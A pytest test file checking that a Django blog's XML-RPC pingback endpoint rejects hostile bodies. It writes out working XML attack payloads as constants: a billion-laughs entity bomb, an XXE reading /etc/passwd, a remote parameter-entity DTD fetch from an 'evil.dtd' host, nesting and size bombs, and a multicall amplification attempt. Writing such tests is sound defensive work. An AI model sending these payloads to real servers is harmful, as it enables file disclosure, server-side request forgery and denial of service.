"""Hostile XML-RPC bodies: refused quickly, with a clear fault, a 4xx status and nothing stored."""

import time
import xmlrpc.client

import pytest

from discussion.models import Response

pytestmark = pytest.mark.django_db

PING = "<methodName>pingback.ping</methodName>"
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]><methodCall>"
    + PING.encode()
    + b"<params><param><value><string>&lol9;</string></value></param></params>"
    b"</methodCall>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><methodCall>'
    + PING.encode()
    + b"<params><param><value><string>&xxe;</string></value></param></params></methodCall>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % remote SYSTEM "http://10.0.0.1/evil.dtd"> %remote;]>'
    b"<methodCall>" + PING.encode() + b"</methodCall>"
)
DOCTYPE_ONLY = b'<?xml version="1.0"?><!DOCTYPE methodCall><methodCall>' + PING.encode() + b"</methodCall>"
UTF16_DOCTYPE = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE m [<!ENTITY e "x">]><methodCall/>'.encode("utf-16")


def post_xml(client, body: bytes):
    started = time.monotonic()
    response = client.post("/xmlrpc/", body, content_type="text/xml")
    assert time.monotonic() - started < 1.0
    return response


def fault(response) -> tuple[int, str]:
    with pytest.raises(xmlrpc.client.Fault) as caught:
        xmlrpc.client.loads(response.content)
    return caught.value.faultCode, caught.value.faultString


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (BILLION_LAUGHS, "DOCTYPE"),
        (EXTERNAL_ENTITY, "DOCTYPE"),
        (PARAMETER_ENTITY, "DOCTYPE"),
        (DOCTYPE_ONLY, "DOCTYPE"),
        (UTF16_DOCTYPE, "DOCTYPE"),
        (
            b"<methodCall>" + PING.encode() + b"<params><param><value>&amp;&undefined;</value></param></params>"
            b"</methodCall>",
            "not well-formed",
        ),
        (b"not xml at all", "not well-formed"),
        (b'<?xml version="1.0" encoding="UTF-7"?><methodCall>' + PING.encode() + b"</methodCall>", "encoding"),
        (b'<?xml version="1.0" encoding="x-no-such"?><methodCall>' + PING.encode() + b"</methodCall>", "encoding"),
        (b'<?xml version="1.0" encoding="utf-32"?><methodCall/>', "encoding"),
        (b"<methodCall><methodName>pingback.ping</methodName>", "not well-formed"),
        (b"", "not well-formed"),
        (b"<methodResponse><params><param><value>x</value></param></params></methodResponse>", "not a call"),
        (b"<methodCall><params><param><value><int>nope</int></value></param></params></methodCall>", "not a valid"),
    ],
)
def test_malformed_or_entity_bodies_are_refused(client, post, body, words):
    response = post_xml(client, body)
    assert response.status_code == 400
    code, message = fault(response)
    assert code == -32700 and words in message
    assert not Response.objects.exists()


def test_a_content_length_in_non_ascii_digits_is_refused(client, post):
    response = client.post("/xmlrpc/", b"<methodCall/>", content_type="text/xml", CONTENT_LENGTH="\u00b2")
    assert response.status_code == 413
    assert not Response.objects.exists()


def test_deep_nesting_is_refused(client, blog_index):
    depth = 10_000
    body = (
        b"<methodCall>"
        + PING.encode()
        + b"<params><param>"
        + b"<value><array><data>" * depth
        + b"</data></array></value>" * depth
        + b"</param></params></methodCall>"
    )[:60_000]
    response = post_xml(client, body)
    assert response.status_code == 400
    assert "nested more than 32 levels" in fault(response)[1]


def test_many_elements_are_refused(client, blog_index):
    body = (
        b"<methodCall>"
        + PING.encode()
        + b"<params>"
        + b"<param><value>x</value></param>" * 2_000
        + b"</params></methodCall>"
    )
    response = post_xml(client, body)
    assert response.status_code == 400 and "more than 2000 elements" in fault(response)[1]


def test_ten_megabyte_body_is_refused_before_parsing(client, blog_index):
    body = b"<methodCall>" + PING.encode() + b"<params><param><value><string>" + b"a" * 10_000_000
    response = post_xml(client, body + b"</string></value></param></params></methodCall>")
    assert response.status_code == 413
    assert "larger than 65,536 bytes" in fault(response)[1]


def test_wrong_types_get_invalid_params_fault(client, post):
    body = xmlrpc.client.dumps((xmlrpc.client.DateTime(), 3.5), "pingback.ping").encode()
    response = post_xml(client, body)
    assert response.status_code == 200
    assert fault(response)[0] == -32602


def test_unknown_method_is_not_found(client, blog_index):
    response = post_xml(client, xmlrpc.client.dumps(("admin", "pw"), "wp.getUsersBlogs").encode())
    assert fault(response) == (-32601, "The method 'wp.getUsersBlogs' is not supported here.")


def test_multicall_cannot_amplify(client, post):
    calls = [{"methodName": "pingback.ping", "params": ["http://10.0.0.1/", post.full_url]}] * 100
    response = post_xml(client, xmlrpc.client.dumps((calls,), "system.multicall").encode())
    assert fault(response)[0] == -32601
